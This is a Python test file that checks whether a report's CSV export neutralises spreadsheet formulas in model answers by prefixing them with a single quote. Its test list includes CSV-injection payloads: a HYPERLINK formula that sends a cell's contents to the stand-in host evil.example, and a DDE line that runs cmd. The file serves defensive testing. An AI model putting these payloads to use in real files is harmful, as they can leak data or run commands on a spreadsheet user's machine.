"""A probe's answers are a model's text: written to --answers CSV, text that a spreadsheet would run as a formula
is written after a single quote (OWASP's advice for CSV injection), and read back as the text it was."""
import csv
import io

import pytest

from experiments.probe import ProbeAnswer
from views.reports import answers_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_an_answer_a_spreadsheet_would_run_is_written_as_text(text):
    answer = ProbeAnswer("full", "end", "f1", 1, 1, "What is the code?", text, "other", 12)
    [row] = list(csv.DictReader(io.StringIO(answers_csv([answer]), newline="")))
    assert row["answer"] == "'" + text


def test_plain_answers_and_numbers_are_unchanged():
    answer = ProbeAnswer("full", "end", "f1", 1, 1, "What is 2 + 2?", "4 apples", "correct", 12)
    [row] = list(csv.DictReader(io.StringIO(answers_csv([answer]), newline="")))
    assert row["answer"] == "4 apples" and row["context_tokens"] == "12" and row["question"] == "What is 2 + 2?"
